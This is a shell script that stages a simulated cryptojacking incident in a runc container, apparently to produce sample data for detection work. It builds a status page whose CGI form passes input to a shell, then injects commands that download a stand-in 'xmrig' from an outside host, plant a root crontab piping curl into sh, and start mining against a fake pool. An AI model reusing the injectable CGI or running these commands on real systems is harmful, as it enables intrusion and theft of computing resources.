#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# A miner in a container.
# Host: node3
# When: 2026-11-20T04:52:31
#
# A container (runc, with the cgroup path docker gives) serves a small status
# page whose "probe" form hands its argument to a shell.  Someone outside uses
# it to fetch a program named xmrig into a hidden directory, leave a crontab
# that fetches it again, and start it; it logs in to a mining pool and works.
# The program only looks like a miner (xmrig.c).
# samples/record.sh tells what runs where.
set -eu
here=$(cd "$(dirname "$0")" && pwd)
id=4c0ffee5a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c

net() {
	gcc -Os -static -s -o "$TMP/xmrig" "$here/xmrig.c"
	echo "host=203.0.113.99,hostfwd=tcp:127.0.0.1:$HTTP-192.168.20.15:8080,guestfwd=tcp:198.51.100.77:8000-cmd:sh $here/stage.sh peer files,guestfwd=tcp:198.51.100.88:3333-cmd:sh $here/stage.sh peer pool"
}

# A program and the libraries it wants, at their places in the container.
take() {
	for file; do
		mkdir -p "$root${file%/*}"
		cp -L "$file" "$root$file"
		ldd "$file" | grep -o '/[^ ]*' | while read -r lib; do
			mkdir -p "$root${lib%/*}"
			[ -e "$root$lib" ] || cp -L "$lib" "$root$lib"
		done
	done
}

make_image() {
	for dir in usr/bin usr/sbin usr/lib usr/lib64 proc dev sys tmp etc root www/cgi-bin var/spool/cron/crontabs; do
		mkdir -p "$root/$dir"
	done
	for dir in bin sbin lib lib64; do
		ln -s "usr/$dir" "$root/$dir"
	done
	for name in sh cat chmod curl id ls mkdir nohup nproc ps rm sleep uname; do
		take "$(command -v $name)"
	done
	take /usr/sbin/lighttpd /usr/lib/lighttpd/mod_cgi.so
	echo root:x:0:0:root:/root:/bin/sh >"$root/etc/passwd"
	echo root:x:0: >"$root/etc/group"
	echo '<h1>node status</h1>' >"$root/www/index.html"
	printf '%s\n' 'server.port = 8080' 'server.document-root = "/www"' 'server.modules = ("mod_cgi")' \
		'index-file.names = ("index.html")' '$HTTP["url"] =~ "^/cgi-bin/" { cgi.assign = ("" => "/bin/sh") }' >"$root/etc/web.conf"
	cat >"$root/www/cgi-bin/probe" <<'CGI'
echo Content-Type: text/plain
echo
host=$(cat)
sh -c "curl -s -m 2 -o /dev/null -w '%{http_code}\n' $host" 2>&1
CGI
}

prepare() {
	bundle=/var/lib/containers/$id
	root=$bundle/rootfs
	mkdir -p $root
	make_image
	cd $bundle
	runc spec
	python3 - "$id" <<'PYTHON'
import json, sys
spec = json.load(open("config.json"))
spec["process"]["terminal"] = False
spec["process"]["args"] = ["lighttpd", "-D", "-f", "/etc/web.conf"]
spec["root"]["readonly"] = False
spec["hostname"] = sys.argv[1][:12]
spec["linux"]["namespaces"] = [n for n in spec["linux"]["namespaces"] if n["type"] != "network"]
spec["linux"]["cgroupsPath"] = "/docker/" + sys.argv[1]
json.dump(spec, open("config.json", "w"))
PYTHON
	runc run -d $id </dev/null >/dev/null 2>&1
	cd /
	sleep 1
}

# One use of the status page's form.
probe() {
	curl -sS --data-binary "$1" "http://127.0.0.1:$HTTP/cgi-bin/probe"
	sleep 1
}

outside() {
	curl -sS "http://127.0.0.1:$HTTP/"
	probe '127.0.0.1:8080'
	probe '127.0.0.1:8080; id; uname -a; nproc'
	probe '127.0.0.1:8080; mkdir -p /tmp/.X11; curl -s -o /tmp/.X11/xmrig http://198.51.100.77:8000/xmrig; ls -la /tmp/.X11'
	probe '127.0.0.1:8080; chmod 755 /tmp/.X11/xmrig; echo "*/5 * * * * curl -s http://198.51.100.77:8000/i.sh | sh" > /var/spool/cron/crontabs/root'
	probe '127.0.0.1:8080; cd /tmp/.X11; nohup ./xmrig -o stratum+tcp://198.51.100.88:3333 -u 48ExampleWalletOnly -p node3 --donate-level 1 -B >/dev/null 2>&1 </dev/null &'
	sleep 8
	probe '127.0.0.1:8080; ps ax'
}

# Answers as a pool does: a job after the login, "OK" to each share.
pool() {
	exec perl -ne 'BEGIN { $| = 1; alarm 60 }
		print /"login"/ ? qq({"id":1,"jsonrpc":"2.0","result":{"id":"x","job":{"blob":"00","target":"b88d0600"},"status":"OK"}}\n)
			: qq({"id":2,"jsonrpc":"2.0","result":{"status":"OK"}}\n)'
}

peer() {
	case $1 in
	files) exec perl "$here/../peer.pl" "$TMP/xmrig" ;;
	pool) pool ;;
	esac
}

"$@"
